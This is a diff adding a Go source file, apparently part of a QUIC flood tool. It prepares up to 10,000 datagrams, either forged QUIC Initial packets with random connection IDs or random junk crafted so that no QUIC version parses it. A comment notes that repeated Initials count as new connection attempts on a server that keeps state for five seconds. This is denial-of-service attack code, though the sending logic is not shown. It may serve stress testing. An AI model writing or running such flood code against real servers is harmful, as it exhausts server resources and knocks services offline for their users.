@@ -1,0 +1,51 @@
+package flood
+
+import (
+	"crypto/rand"
+	"fmt"
+)
+
+const (
+	// prepared is how many datagrams a flood has; then it repeats them. A server that
+	// keeps an attempt for five seconds takes repeated Initials for new attempts up to
+	// 2,000/s.
+	prepared = 10_000
+	// idBytes is the size of connection IDs, the least for a client (RFC 9000, 7.2).
+	idBytes = 8
+)
+
+// payloads are the datagrams of a flood.
+func (o *Options) payloads() ([][]byte, error) {
+	count := prepared
+	if o.Frames > 0 {
+		count = min(count, o.Frames)
+	}
+	all := make([][]byte, count)
+	if o.Kind == Junk {
+		for i := range all {
+			all[i] = junk()
+		}
+		return all, nil
+	}
+	hello, err := clientHello()
+	if err != nil {
+		return nil, err
+	}
+	for i := range all {
+		id := make([]byte, idBytes)
+		_, _ = rand.Read(id) // it never fails; 10,000 of 2^64 are distinct
+		if all[i], err = initial(hello, id); err != nil {
+			return nil, fmt.Errorf("make an Initial: %w", err)
+		}
+	}
+	return all, nil
+}
+
+// junk is a random datagram with neither of QUIC's first two bits, so that no version
+// takes it for one of its packets (RFC 9000, 17.2 and 17.3; RFC 9443).
+func junk() []byte {
+	b := make([]byte, payloadBytes)
+	_, _ = rand.Read(b) // it never fails
+	b[0] &= 0x3f
+	return b
+}
